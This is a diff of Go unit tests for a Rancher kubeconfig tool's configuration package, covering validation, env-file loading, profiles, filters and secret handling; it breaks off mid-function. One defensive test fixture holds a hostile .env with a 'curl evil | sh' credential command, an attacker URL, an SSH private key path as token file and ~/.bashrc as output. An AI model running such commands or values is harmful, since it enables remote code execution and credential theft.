@@ -1,12 +1,18 @@
 package config
 
 import (
+	"errors"
+	"fmt"
 	"os"
+	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
+	"time"
 )
 
 func TestConfig_Validate_RequiresURL(t *testing.T) {
-	cfg := &Config{}
+	cfg := &Config{Token: "token-xxxxx:secretkey"}
 	err := cfg.Validate()
 	if err == nil {
 		t.Error("expected error when RancherURL is empty")
@@ -16,6 +22,92 @@ func TestConfig_Validate_RequiresURL(t *testing.T) {
 	}
 }
 
+func TestConfig_Validate_ReportsAllProblems(t *testing.T) {
+	dir := t.TempDir()
+	cfg := &Config{
+		RancherURL: "rancher.example.com",
+		Token:      "invalidtoken",
+		CACert:     filepath.Join(dir, "missing-ca.pem"),
+		OutputPath: filepath.Join(dir, "missing", "kubeconfig.yaml"),
+	}
+	err := cfg.Validate()
+	var validationErr *ValidationError
+	if !errors.As(err, &validationErr) {
+		t.Fatalf("Validate() error = %v, want a *ValidationError", err)
+	}
+	if len(validationErr.Problems) != 4 {
+		t.Fatalf("Validate() reported %d problems, want 4: %v", len(validationErr.Problems), err)
+	}
+	for _, want := range []string{"4 problems:", "invalid rancher URL", "invalid token format", "CA certificate", "output directory"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("Validate() error %q does not mention %q", err, want)
+		}
+	}
+	if !errors.Is(err, os.ErrNotExist) {
+		t.Error("Validate() error should wrap the error opening the CA certificate")
+	}
+}
+
+func TestConfig_Validate_Paths(t *testing.T) {
+	dir := t.TempDir()
+	file := filepath.Join(dir, "file")
+	if err := os.WriteFile(file, []byte("x"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	valid := []*Config{
+		{CACert: file},
+		{CACert: dir},
+		{OutputPath: filepath.Join(dir, "kubeconfig.yaml")},
+		{SplitDir: filepath.Join(dir, "split")},
+		{SplitDir: dir},
+	}
+	for _, cfg := range valid {
+		cfg.RancherURL, cfg.Token = "https://rancher.example.com", "token-xxxxx:secretkey"
+		if err := cfg.Validate(); err != nil {
+			t.Errorf("Validate(%+v) error = %v", cfg, err)
+		}
+	}
+	invalid := []*Config{
+		{OutputPath: dir},
+		{OutputPath: filepath.Join(file, "kubeconfig.yaml")},
+		{SplitDir: file},
+		{RancherURL: "ftp://rancher.example.com"},
+	}
+	for _, cfg := range invalid {
+		if cfg.RancherURL == "" {
+			cfg.RancherURL = "https://rancher.example.com"
+		}
+		cfg.Token = "token-xxxxx:secretkey"
+		if err := cfg.Validate(); err == nil {
+			t.Errorf("Validate(%+v) should fail", cfg)
+		}
+	}
+}
+
+func TestConfig_Validate_NoExec(t *testing.T) {
+	configs := []*Config{
+		{CredentialCommand: []string{"op", "read", "op://ci/rancher/token"}},
+		{EncryptRecipients: []string{"age1xyz"}, EncryptFormat: "sops"},
+	}
+	for _, cfg := range configs {
+		cfg.RancherURL, cfg.Token = "https://rancher.example.com", "token-xxxxx:secretkey"
+		if err := cfg.Validate(); err != nil {
+			t.Errorf("Validate(%+v) error = %v", cfg, err)
+		}
+	}
+
+	t.Setenv("RANCHER_NO_EXEC", "true")
+	for _, cfg := range configs {
+		if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "no-exec") {
+			t.Errorf("Validate(%+v) error = %v, want a no-exec error", cfg, err)
+		}
+	}
+	age := &Config{RancherURL: "https://rancher.example.com", Token: "token-xxxxx:secretkey", EncryptRecipients: []string{"age1xyz"}}
+	if err := age.Validate(); err != nil {
+		t.Errorf("Validate() of age encryption in no-exec mode error = %v", err)
+	}
+}
+
 func TestConfig_Validate_RequiresAuth(t *testing.T) {
 	cfg := &Config{
 		RancherURL: "https://rancher.example.com",
@@ -281,6 +373,8 @@ func TestLoadFromEnv(t *testing.T) {
 		"RANCHER_KUBECONFIG_OUTPUT":        "/tmp/kubeconfig",
 		"RANCHER_INSECURE_SKIP_TLS_VERIFY": "true",
 		"RANCHER_CA_CERT":                  "/path/to/ca.crt",
+		"RANCHER_CA_CERT_DATA":             "-----BEGIN CERTIFICATE-----",
+		"RANCHER_EXCLUDE_SYSTEM_CAS":       "true",
 	}
 
 	// Save original values and set test values
@@ -333,6 +427,9 @@ func TestLoadFromEnv(t *testing.T) {
 	if cfg.CACert != "/path/to/ca.crt" {
 		t.Errorf("CACert = %q, want %q", cfg.CACert, "/path/to/ca.crt")
 	}
+	if cfg.CACertData != "-----BEGIN CERTIFICATE-----" || !cfg.ExcludeSystemCAs {
+		t.Errorf("CACertData = %q, ExcludeSystemCAs = %v", cfg.CACertData, cfg.ExcludeSystemCAs)
+	}
 }
 
 func TestLoadFromEnv_InsecureSkipTLSVerify_False(t *testing.T) {
@@ -357,3 +454,744 @@ func TestLoadFromEnv_InsecureSkipTLSVerify_False(t *testing.T) {
 		t.Error("InsecureSkipTLSVerify should be false when empty")
 	}
 }
+
+func TestSplitInstanceNames(t *testing.T) {
+	got := SplitInstanceNames(" dev, stage,,prod ")
+	want := []string{"dev", "stage", "prod"}
+	if len(got) != len(want) {
+		t.Fatalf("SplitInstanceNames() = %v, want %v", got, want)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("SplitInstanceNames()[%d] = %q, want %q", i, got[i], want[i])
+		}
+	}
+	if got := SplitInstanceNames(""); got != nil {
+		t.Errorf("SplitInstanceNames(\"\") = %v, want nil", got)
+	}
+}
+
+func TestInstanceEnvKey(t *testing.T) {
+	if got := InstanceEnvKey("prod-eu", "URL"); got != "RANCHER_PROD_EU_URL" {
+		t.Errorf("InstanceEnvKey() = %q, want RANCHER_PROD_EU_URL", got)
+	}
+}
+
+func TestLoadInstance(t *testing.T) {
+	t.Setenv("RANCHER_STAGE_URL", "https://stage.example.com")
+	t.Setenv("RANCHER_STAGE_TOKEN", "token-stage:secret")
+	t.Setenv("RANCHER_PROD_URL", "https://prod.example.com")
+	t.Setenv("RANCHER_PROD_USERNAME", "admin")
+	t.Setenv("RANCHER_PROD_PASSWORD", "pw")
+	t.Setenv("RANCHER_PROD_CLUSTER_PREFIX", "")
+	t.Setenv("RANCHER_PROD_AS_USER", "u-prod")
+
+	base := &Config{
+		RancherURL:      "https://shared.example.com",
+		Token:           "token-shared:secret",
+		ClusterPrefix:   "shared-",
+		MaxConnsPerHost: 8,
+		AsUser:          "u-shared",
+	}
+
+	stage := LoadInstance(base, "stage")
+	if stage.Name != "stage" {
+		t.Errorf("Name = %q, want stage", stage.Name)
+	}
+	if stage.RancherURL != "https://stage.example.com" || stage.Token != "token-stage:secret" {
+		t.Errorf("unexpected stage connection: %q %q", stage.RancherURL, stage.Token)
+	}
+	if stage.ClusterPrefix != "stage-" {
+		t.Errorf("ClusterPrefix = %q, want default stage-", stage.ClusterPrefix)
+	}
+	if stage.MaxConnsPerHost != 8 {
+		t.Errorf("MaxConnsPerHost = %d, want inherited 8", stage.MaxConnsPerHost)
+	}
+	if stage.AsUser != "" {
+		t.Errorf("AsUser = %q, user IDs must not be inherited from the base config", stage.AsUser)
+	}
+
+	prod := LoadInstance(base, "prod")
+	if prod.Token != "" {
+		t.Errorf("Token = %q, credentials must not be inherited from the base config", prod.Token)
+	}
+	if prod.ClusterPrefix != "" {
+		t.Errorf("ClusterPrefix = %q, want explicitly empty prefix", prod.ClusterPrefix)
+	}
+	if prod.AsUser != "u-prod" {
+		t.Errorf("AsUser = %q, want u-prod", prod.AsUser)
+	}
+	if err := prod.Validate(); err != nil || !prod.UsePasswordAuth() {
+		t.Errorf("expected valid password config, got err=%v", err)
+	}
+}
+
+func TestLoadInstance_Separator(t *testing.T) {
+	t.Setenv("RANCHER_EU_CLUSTER_SUFFIX", "eu")
+
+	base := &Config{ClusterSuffix: "global", ClusterSeparator: "-"}
+	eu := LoadInstance(base, "eu")
+	if eu.ClusterPrefix != "eu" || eu.ClusterSuffix != "eu" || eu.ClusterSeparator != "-" {
+		t.Errorf("got prefix %q, suffix %q, separator %q, want eu, eu, -", eu.ClusterPrefix, eu.ClusterSuffix, eu.ClusterSeparator)
+	}
+	us := LoadInstance(base, "us")
+	if us.ClusterPrefix != "us" || us.ClusterSuffix != "global" {
+		t.Errorf("got prefix %q, suffix %q, want us and the inherited global", us.ClusterPrefix, us.ClusterSuffix)
+	}
+}
+
+func TestConfig_AcceptsClusterState(t *testing.T) {
+	tests := []struct {
+		name  string
+		cfg   Config
+		state string
+		want  bool
+	}{
+		{"default accepts active", Config{}, "active", true},
+		{"default rejects updating", Config{}, "updating", false},
+		{"configured states", Config{ClusterStates: []string{"active", "updating"}}, "updating", true},
+		{"case insensitive", Config{ClusterStates: []string{"Active"}}, "active", true},
+		{"configured states replace default", Config{ClusterStates: []string{"updating"}}, "active", false},
+		{"include all states", Config{IncludeAllStates: true}, "provisioning", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := tt.cfg.AcceptsClusterState(tt.state); got != tt.want {
+				t.Errorf("AcceptsClusterState(%q) = %v, want %v", tt.state, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadFromEnv_ClusterStates(t *testing.T) {
+	t.Setenv("RANCHER_CLUSTER_STATES", "active, updating,")
+	t.Setenv("RANCHER_INCLUDE_ALL_STATES", "true")
+
+	cfg := LoadFromEnv()
+	want := []string{"active", "updating"}
+	if len(cfg.ClusterStates) != len(want) || cfg.ClusterStates[0] != want[0] || cfg.ClusterStates[1] != want[1] {
+		t.Errorf("ClusterStates = %v, want %v", cfg.ClusterStates, want)
+	}
+	if !cfg.IncludeAllStates {
+		t.Error("IncludeAllStates should be true")
+	}
+}
+
+func TestParseHarvesterMode(t *testing.T) {
+	for _, value := range []string{"", "include", "Exclude", "only"} {
+		if _, err := ParseHarvesterMode(value); err != nil {
+			t.Errorf("ParseHarvesterMode(%q) error = %v", value, err)
+		}
+	}
+	if _, err := ParseHarvesterMode("skip"); err == nil {
+		t.Error("expected an error for an unknown mode")
+	}
+
+	cfg := &Config{RancherURL: "https://rancher.example.com", Token: "a:b", Harvester: "skip"}
+	if err := cfg.Validate(); err == nil {
+		t.Error("Validate() should reject an unknown Harvester mode")
+	}
+}
+
+func TestConfig_AcceptsClusterAge(t *testing.T) {
+	cfg := &Config{OlderThan: time.Hour, NewerThan: 24 * time.Hour}
+	tests := []struct {
+		age  time.Duration
+		want bool
+	}{
+		{10 * time.Minute, false},
+		{time.Hour, true},
+		{12 * time.Hour, true},
+		{24 * time.Hour, false},
+	}
+	for _, tt := range tests {
+		if got := cfg.AcceptsClusterAge(tt.age); got != tt.want {
+			t.Errorf("AcceptsClusterAge(%s) = %v, want %v", tt.age, got, tt.want)
+		}
+	}
+	if !(&Config{}).AcceptsClusterAge(time.Minute) {
+		t.Error("no filters should accept every age")
+	}
+}
+
+func TestConfig_Validate_AgeFilters(t *testing.T) {
+	cfg := &Config{RancherURL: "https://rancher.example.com", Token: "a:b", OlderThan: 2 * time.Hour, NewerThan: time.Hour}
+	if err := cfg.Validate(); err == nil {
+		t.Error("expected an error for an empty age range")
+	}
+	cfg.OlderThan = -time.Hour
+	if err := cfg.Validate(); err == nil {
+		t.Error("expected an error for a negative age")
+	}
+}
+
+func TestConfig_IsEphemeral(t *testing.T) {
+	cfg := &Config{EphemeralLabel: "lifecycle=ephemeral", EphemeralNamePattern: `^ci-\d+$`}
+	tests := []struct {
+		name   string
+		labels map[string]string
+		want   bool
+	}{
+		{"ci-1234", nil, true},
+		{"ci-main", nil, false},
+		{"review", map[string]string{"lifecycle": "ephemeral"}, true},
+		{"review", map[string]string{"lifecycle": "permanent"}, false},
+		{"prod", nil, false},
+	}
+	for _, tt := range tests {
+		if got := cfg.IsEphemeral(tt.name, tt.labels); got != tt.want {
+			t.Errorf("IsEphemeral(%q, %v) = %v, want %v", tt.name, tt.labels, got, tt.want)
+		}
+	}
+
+	keyOnly := &Config{EphemeralLabel: "ci"}
+	if !keyOnly.IsEphemeral("build", map[string]string{"ci": ""}) {
+		t.Error("expected a label key without value to match any value")
+	}
+	if (&Config{}).IsEphemeral("ci-1", map[string]string{"ci": "true"}) {
+		t.Error("expected no cluster to be ephemeral by default")
+	}
+
+	invalid := &Config{RancherURL: "https://rancher.example.com", Token: "a:b", EphemeralNamePattern: "ci-("}
+	if err := invalid.Validate(); err == nil {
+		t.Error("expected an error for an invalid ephemeral name pattern")
+	}
+}
+
+func TestConfig_SelectsCluster(t *testing.T) {
+	cfg := &Config{Clusters: []string{"prod-a", "c-m-2"}}
+	tests := []struct {
+		id, name string
+		want     bool
+	}{
+		{"c-m-1", "prod-a", true},
+		{"c-m-2", "prod-b", true},
+		{"c-m-3", "prod-a-2", false},
+	}
+	for _, tt := range tests {
+		if got := cfg.SelectsCluster(tt.id, tt.name); got != tt.want {
+			t.Errorf("SelectsCluster(%q, %q) = %v, want %v", tt.id, tt.name, got, tt.want)
+		}
+	}
+	if !(&Config{}).SelectsCluster("c-m-3", "staging") {
+		t.Error("expected every cluster to be selected when none is named")
+	}
+}
+
+func TestConfig_AcceptsClusterName(t *testing.T) {
+	cfg := &Config{IncludeClusters: []string{"prod-*", "/^eu-[0-9]+$/"}, ExcludeClusters: []string{"*-sandbox"}}
+	tests := []struct {
+		name string
+		want bool
+	}{
+		{"prod-eu", true},
+		{"prod-sandbox", false},
+		{"eu-1", true},
+		{"eu-west", false},
+		{"staging", false},
+	}
+	for _, tt := range tests {
+		if got := cfg.AcceptsClusterName(tt.name); got != tt.want {
+			t.Errorf("AcceptsClusterName(%q) = %v, want %v", tt.name, got, tt.want)
+		}
+	}
+
+	if !(&Config{ExcludeClusters: []string{"*-sandbox"}}).AcceptsClusterName("staging") {
+		t.Error("expected clusters to be included when no include pattern is set")
+	}
+
+	for _, pattern := range []string{"prod-[", "/eu-(/"} {
+		invalid := &Config{RancherURL: "https://rancher.example.com", Token: "a:b", ExcludeClusters: []string{pattern}}
+		if err := invalid.Validate(); err == nil {
+			t.Errorf("expected an error for the invalid pattern %q", pattern)
+		}
+	}
+}
+
+func TestConfig_Validate_ExecCredentials(t *testing.T) {
+	cfg := &Config{RancherURL: "https://rancher.example.com", Token: "a:b", ExecCredentials: true}
+	if err := cfg.Validate(); err != nil {
+		t.Fatalf("Validate() error = %v", err)
+	}
+	if got := cfg.ExecCommandOrDefault(); got != DefaultExecCommand {
+		t.Errorf("ExecCommandOrDefault() = %q, want %q", got, DefaultExecCommand)
+	}
+
+	cfg.ScopedTokens = true
+	if err := cfg.Validate(); err == nil {
+		t.Error("expected an error for exec credentials with scoped tokens")
+	}
+	cfg.ScopedTokens, cfg.AsUser = false, "u-abc123"
+	if err := cfg.Validate(); err == nil {
+		t.Error("expected an error for exec credentials with impersonation")
+	}
+}
+
+func TestConfig_Validate_OIDC(t *testing.T) {
+	cfg := &Config{RancherURL: "https://rancher.example.com", Token: "a:b", OIDCIssuerURL: "https://keycloak.example.com/realms/k8s", OIDCClientID: "kubernetes"}
+	if err := cfg.Validate(); err != nil {
+		t.Fatalf("Validate() error = %v", err)
+	}
+
+	cfg.OIDCClientID = ""
+	if err := cfg.Validate(); err == nil {
+		t.Error("expected an error for an OIDC issuer without client ID")
+	}
+	cfg.OIDCClientID, cfg.OIDCIssuerURL = "kubernetes", "http://keycloak.example.com/realms/k8s"
+	if err := cfg.Validate(); err == nil {
+		t.Error("expected an error for a plain HTTP issuer")
+	}
+	cfg.OIDCIssuerURL, cfg.ExecCredentials = "https://keycloak.example.com/realms/k8s", true
+	if err := cfg.Validate(); err == nil {
+		t.Error("expected an error for OIDC with exec credentials")
+	}
+}
+
+func TestConfig_Validate_NameTemplate(t *testing.T) {
+	cfg := &Config{RancherURL: "https://rancher.example.com", Token: "a:b", NameTemplate: "{{.ClusterName}"}
+	if err := cfg.Validate(); err == nil {
+		t.Error("expected an error for an unparsable name template")
+	}
+	cfg.NameTemplate = "{{.Prefix}}{{.ClusterName}}"
+	if err := cfg.Validate(); err != nil {
+		t.Errorf("Validate() error = %v", err)
+	}
+}
+
+func TestParseDuration(t *testing.T) {
+	tests := []struct {
+		value   string
+		want    time.Duration
+		wantErr bool
+	}{
+		{"30d", 30 * 24 * time.Hour, false},
+		{"0d", 0, false},
+		{"12h", 12 * time.Hour, false},
+		{"1.5d", 0, true},
+		{"-1d", 0, true},
+		{"d", 0, true},
+		{"soon", 0, true},
+	}
+	for _, tt := range tests {
+		got, err := ParseDuration(tt.value)
+		if (err != nil) != tt.wantErr || got != tt.want {
+			t.Errorf("ParseDuration(%q) = %v, %v; want %v, error %t", tt.value, got, err, tt.want, tt.wantErr)
+		}
+	}
+}
+
+func TestFile_Apply(t *testing.T) {
+	path := filepath.Join(t.TempDir(), FileName)
+	data := `url: https://rancher.example.com
+auth:
+  token: token-abc:secret
+prefix: rancher-
+filters:
+  include: ["prod-*"]
+output:
+  path: /tmp/kubeconfig
+  flatten: true
+`
+	if err := os.WriteFile(path, []byte(data), 0600); err != nil {
+		t.Fatal(err)
+	}
+	file, err := LoadFile(path)
+	if err != nil {
+		t.Fatalf("LoadFile() error = %v", err)
+	}
+
+	t.Setenv("RANCHER_URL", "")
+	t.Setenv("RANCHER_TOKEN", "")
+	t.Setenv("RANCHER_INCLUDE_CLUSTERS", "")
+	t.Setenv("RANCHER_KUBECONFIG_OUTPUT", "")
+	t.Setenv("RANCHER_CLUSTER_PREFIX", "env-")
+	t.Setenv("RANCHER_FLATTEN", "false")
+	cfg := LoadFromEnv()
+	file.Apply(cfg, "")
+
+	if cfg.RancherURL != "https://rancher.example.com" || cfg.Token != "token-abc:secret" {
+		t.Errorf("URL and token = %q, %q", cfg.RancherURL, cfg.Token)
+	}
+	if cfg.ClusterPrefix != "env-" {
+		t.Errorf("ClusterPrefix = %q, want the environment to win", cfg.ClusterPrefix)
+	}
+	if cfg.Flatten {
+		t.Error("Flatten = true, want RANCHER_FLATTEN=false to win")
+	}
+	if len(cfg.IncludeClusters) != 1 || cfg.IncludeClusters[0] != "prod-*" || cfg.OutputPath != "/tmp/kubeconfig" {
+		t.Errorf("IncludeClusters = %v, OutputPath = %q", cfg.IncludeClusters, cfg.OutputPath)
+	}
+}
+
+func TestSettingsOf_Redact(t *testing.T) {
+	cfg := &Config{
+		RancherURL:    "https://rancher.example.com",
+		Token:         "token-abc:secret",
+		SecretKey:     "secret",
+		Username:      "admin",
+		Password:      "hunter2",
+		ClusterPrefix: "rancher-",
+		OutputPath:    "/tmp/kubeconfig",
+	}
+	settings := SettingsOf(cfg)
+	if settings.URL != cfg.RancherURL || settings.Prefix != "rancher-" || settings.Output.Path != "/tmp/kubeconfig" {
+		t.Errorf("SettingsOf() = %+v", settings)
+	}
+
+	settings.Redact()
+	auth := settings.Auth
+	if auth.Token != "token-abc:REDACTED" || auth.SecretKey != "REDACTED" || auth.Password != "REDACTED" || auth.Username != "admin" {
+		t.Errorf("Redact() auth = %+v", auth)
+	}
+	if cfg.Token != "token-abc:secret" || cfg.Password != "hunter2" {
+		t.Error("Redact() must not change the configuration")
+	}
+}
+
+func TestLoadEnvFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), EnvFileName)
+	data := `# Rancher of this project
+export RANCHER_URL="https://rancher.example.com"
+RANCHER_TOKEN='token-abc:se#cret'
+RANCHER_CLUSTER_PREFIX=dot- # trailing comment
+RANCHER_NAME_TEMPLATE="{{.ClusterName}}\t\"x\""
+
+RANCHER_CLUSTER_SUFFIX=file
+`
+	if err := os.WriteFile(path, []byte(data), 0600); err != nil {
+		t.Fatal(err)
+	}
+	for _, key := range []string{"RANCHER_URL", "RANCHER_TOKEN", "RANCHER_CLUSTER_PREFIX", "RANCHER_NAME_TEMPLATE"} {
+		t.Setenv(key, "")
+		os.Unsetenv(key)
+	}
+	t.Setenv("RANCHER_CLUSTER_SUFFIX", "shell")
+
+	if err := LoadEnvFile(path); err != nil {
+		t.Fatalf("LoadEnvFile() error = %v", err)
+	}
+	want := map[string]string{
+		"RANCHER_URL":            "https://rancher.example.com",
+		"RANCHER_TOKEN":          "token-abc:se#cret",
+		"RANCHER_CLUSTER_PREFIX": "dot-",
+		"RANCHER_NAME_TEMPLATE":  "{{.ClusterName}}\t\"x\"",
+		"RANCHER_CLUSTER_SUFFIX": "shell",
+	}
+	for key, value := range want {
+		if got := os.Getenv(key); got != value {
+			t.Errorf("%s = %q, want %q", key, got, value)
+		}
+	}
+}
+
+func TestLoadEnvFile_Invalid(t *testing.T) {
+	dir := t.TempDir()
+	for i, data := range []string{"no equals sign\n", "1KEY=value\n", "KEY=\"unterminated\n", "KEY='unterminated\n"} {
+		path := filepath.Join(dir, fmt.Sprintf("%d.env", i))
+		if err := os.WriteFile(path, []byte(data), 0600); err != nil {
+			t.Fatal(err)
+		}
+		if err := LoadEnvFile(path); err == nil {
+			t.Errorf("LoadEnvFile(%q) should fail", data)
+		}
+	}
+	if err := LoadEnvFile(filepath.Join(dir, "missing.env")); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("LoadEnvFile() of a missing file error = %v, want os.ErrNotExist", err)
+	}
+}
+
+func TestLoadWorkingDirEnvFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), EnvFileName)
+	data := `DATABASE_URL=postgres://db
+RANCHER_CLUSTER_PREFIX=payments-
+RANCHER_URL=https://attacker.example.com
+RANCHER_TOKEN_FILE=/home/me/.ssh/id_rsa
+RANCHER_KUBECONFIG_OUTPUT=/home/me/.bashrc
+RANCHER_CREDENTIAL_COMMAND="sh -c 'curl evil | sh'"
+RANCHER_INSTANCES=x
+RANCHER_X_CREDENTIAL_COMMAND="sh -c 'curl evil | sh'"
+RKP_PROFILE=attacker
+`
+	if err := os.WriteFile(path, []byte(data), 0600); err != nil {
+		t.Fatal(err)
+	}
+	untrusted := []string{"RANCHER_URL", "RANCHER_TOKEN_FILE", "RANCHER_KUBECONFIG_OUTPUT", "RANCHER_CREDENTIAL_COMMAND", "RANCHER_INSTANCES", "RANCHER_X_CREDENTIAL_COMMAND", "RKP_PROFILE"}
+	for _, key := range append([]string{"DATABASE_URL", "RANCHER_CLUSTER_PREFIX"}, untrusted...) {
+		t.Setenv(key, "")
+		os.Unsetenv(key)
+	}
+
+	ignored, err := LoadWorkingDirEnvFile(path)
+	if err != nil {
+		t.Fatalf("LoadWorkingDirEnvFile() error = %v", err)
+	}
+	if strings.Join(ignored, ",") != strings.Join(untrusted, ",") {
+		t.Errorf("ignored = %v, want %v", ignored, untrusted)
+	}
+	if got := os.Getenv("RANCHER_CLUSTER_PREFIX"); got != "payments-" {
+		t.Errorf("RANCHER_CLUSTER_PREFIX = %q, want it set from the file", got)
+	}
+	for _, key := range append([]string{"DATABASE_URL"}, untrusted...) {
+		if _, ok := os.LookupEnv(key); ok {
+			t.Errorf("%s was set from a .env found in the working directory", key)
+		}
+	}
+
+	// Without the instances, no instance credential command can run
+	if names := InstanceNames(); len(names) > 0 {
+		t.Errorf("InstanceNames() = %v, want none", names)
+	}
+	if cmd := LoadInstance(&Config{}, "x").CredentialCommand; len(cmd) > 0 {
+		t.Errorf("instance credential command = %v, want none", cmd)
+	}
+}
+
+func TestUserDirs(t *testing.T) {
+	base := t.TempDir()
+	dirs := []struct {
+		override, xdg string
+		dir           func() (string, error)
+	}{
+		{"RANCHER_CONFIG_DIR", "XDG_CONFIG_HOME", ConfigDir},
+		{"RANCHER_CACHE_DIR", "XDG_CACHE_HOME", CacheDir},
+		{"RANCHER_STATE_DIR", "XDG_STATE_HOME", StateDir},
+	}
+	for _, d := range dirs {
+		t.Setenv(d.override, "")
+		t.Setenv(d.xdg, filepath.Join(base, d.xdg))
+		if got, err := d.dir(); err != nil || got != filepath.Join(base, d.xdg, AppName) {
+			t.Errorf("%s set: dir = %q, %v", d.xdg, got, err)
+		}
+
+		t.Setenv(d.override, filepath.Join(base, "override"))
+		if got, err := d.dir(); err != nil || got != filepath.Join(base, "override") {
+			t.Errorf("%s set: dir = %q, %v", d.override, got, err)
+		}
+	}
+
+	t.Setenv("RANCHER_CONFIG_DIR", filepath.Join(base, "conf"))
+	if got, err := DefaultFilePath(); err != nil || got != filepath.Join(base, "conf", FileName) {
+		t.Errorf("DefaultFilePath() = %q, %v", got, err)
+	}
+}
+
+func TestFile_Secrets(t *testing.T) {
+	file := &File{
+		Settings: Settings{URL: "https://rancher.example.com", Auth: FileAuth{Token: "token-top:secret"}},
+		Profiles: map[string]Settings{
+			"prod": {Auth: FileAuth{Username: "admin", Password: "prod-pw"}},
+			"lab":  {Auth: FileAuth{AccessKey: "token-lab", SecretKey: "lab-secret"}},
+		},
+	}
+	wrap := func(value string) (string, error) { return "enc(" + value + ")", nil }
+	if err := file.EncryptSecrets(wrap); err != nil {
+		t.Fatalf("EncryptSecrets() error = %v", err)
+	}
+	if file.Auth.Token != "enc(token-top:secret)" || file.Profiles["prod"].Auth.Password != "enc(prod-pw)" ||
+		file.Profiles["lab"].Auth.SecretKey != "enc(lab-secret)" {
+		t.Errorf("EncryptSecrets() = %+v", file)
+	}
+	if file.Profiles["prod"].Auth.Username != "admin" || file.Profiles["lab"].Auth.AccessKey != "token-lab" {
+		t.Error("EncryptSecrets() must leave the user name and access key alone")
+	}
+
+	unwrap := func(value string) (string, error) {
+		return strings.TrimSuffix(strings.TrimPrefix(value, "enc("), ")"), nil
+	}
+	if err := file.DecryptSecrets("prod", unwrap); err != nil {
+		t.Fatalf("DecryptSecrets() error = %v", err)
+	}
+	if file.Auth.Token != "token-top:secret" || file.Profiles["prod"].Auth.Password != "prod-pw" {
+		t.Errorf("DecryptSecrets() = %+v", file)
+	}
+	if file.Profiles["lab"].Auth.SecretKey != "enc(lab-secret)" {
+		t.Error("DecryptSecrets() must leave the profiles not selected alone")
+	}
+
+	failing := func(string) (string, error) { return "", errors.New("wrong key") }
+	if err := file.DecryptSecrets("lab", failing); err == nil || !strings.Contains(err.Error(), "wrong key") {
+		t.Errorf("DecryptSecrets() error = %v", err)
+	}
+}
+
+func TestLoadFromEnv_SecretFiles(t *testing.T) {
+	dir := t.TempDir()
+	tokenFile := filepath.Join(dir, "token")
+	if err := os.WriteFile(tokenFile, []byte("token-abc:secret\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("RANCHER_URL", "https://rancher.example.com")
+	t.Setenv("RANCHER_TOKEN", "")
+	t.Setenv("RANCHER_TOKEN_FILE", tokenFile)
+	t.Setenv("RANCHER_PASSWORD", "from-env")
+	t.Setenv("RANCHER_PASSWORD_FILE", filepath.Join(dir, "missing"))
+	t.Setenv("RANCHER_SECRET_KEY_FILE", "")
+
+	cfg := LoadFromEnv()
+	if cfg.Token != "token-abc:secret" || !cfg.HasSecretFiles() {
+		t.Errorf("Token = %q, HasSecretFiles() = %v", cfg.Token, cfg.HasSecretFiles())
+	}
+	if cfg.Password != "from-env" {
+		t.Errorf("Password = %q, want the variable to win over its file", cfg.Password)
+	}
+	if err := cfg.Validate(); err != nil {
+		t.Fatalf("Validate() error = %v", err)
+	}
+
+	// The file settings do not override a secret read from a file
+	file := &File{Settings: Settings{Auth: FileAuth{Token: "token-file:secret"}}}
+	file.Apply(cfg, "")
+	if cfg.Token != "token-abc:secret" {
+		t.Errorf("Token = %q after applying the config file", cfg.Token)
+	}
+
+	if err := os.WriteFile(tokenFile, []byte("token-new:rotated\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if changed, err := cfg.ReloadSecretFiles(); err != nil || !changed {
+		t.Fatalf("ReloadSecretFiles() = %v, %v", changed, err)
+	}
+	if cfg.Token != "token-new:rotated" || cfg.AccessKey != "token-new" || cfg.SecretKey != "rotated" {
+		t.Errorf("after reload Token = %q, keys = %q, %q", cfg.Token, cfg.AccessKey, cfg.SecretKey)
+	}
+	if changed, err := cfg.ReloadSecretFiles(); err != nil || changed {
+		t.Errorf("ReloadSecretFiles() of an unchanged file = %v, %v", changed, err)
+	}
+
+	// A token given by a flag since is not replaced
+	cfg.Token = "token-flag:secret"
+	if err := os.WriteFile(tokenFile, []byte("token-newer:secret"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if changed, _ := cfg.ReloadSecretFiles(); changed || cfg.Token != "token-flag:secret" {
+		t.Errorf("ReloadSecretFiles() replaced the flag: %v, %q", changed, cfg.Token)
+	}
+}
+
+func TestLoadFromEnv_UnreadableSecretFile(t *testing.T) {
+	t.Setenv("RANCHER_URL", "https://rancher.example.com")
+	t.Setenv("RANCHER_TOKEN", "")
+	t.Setenv("RANCHER_TOKEN_FILE", filepath.Join(t.TempDir(), "missing"))
+	err := LoadFromEnv().Validate()
+	if err == nil || !strings.Contains(err.Error(), "RANCHER_TOKEN_FILE") {
+		t.Errorf("Validate() error = %v, want the unreadable RANCHER_TOKEN_FILE reported", err)
+	}
+}
+
+func TestLoadFromEnv_InvalidNumbers(t *testing.T) {
+	t.Setenv("RANCHER_URL", "https://rancher.example.com")
+	t.Setenv("RANCHER_TOKEN", "token-abc:secret")
+	t.Setenv("RANCHER_RETRY_MAX_WAIT", "30x")
+	t.Setenv("RANCHER_MAX_NAME_LENGTH", "sixty")
+	t.Setenv("RANCHER_BREAKER_THRESHOLD", "")
+
+	cfg := LoadFromEnv()
+	if cfg.RetryMaxWait != 0 || cfg.MaxNameLength != 0 {
+		t.Errorf("RetryMaxWait, MaxNameLength = %v, %d, want the defaults", cfg.RetryMaxWait, cfg.MaxNameLength)
+	}
+	err := cfg.Validate()
+	var validationErr *ValidationError
+	if !errors.As(err, &validationErr) || len(validationErr.Problems) != 2 {
+		t.Fatalf("Validate() error = %v, want both invalid values reported", err)
+	}
+	for _, want := range []string{`RANCHER_RETRY_MAX_WAIT "30x"`, `RANCHER_MAX_NAME_LENGTH "sixty"`} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("Validate() error = %v, want it to mention %s", err, want)
+		}
+	}
+}
+
+func TestLoadInstance_SecretFiles(t *testing.T) {
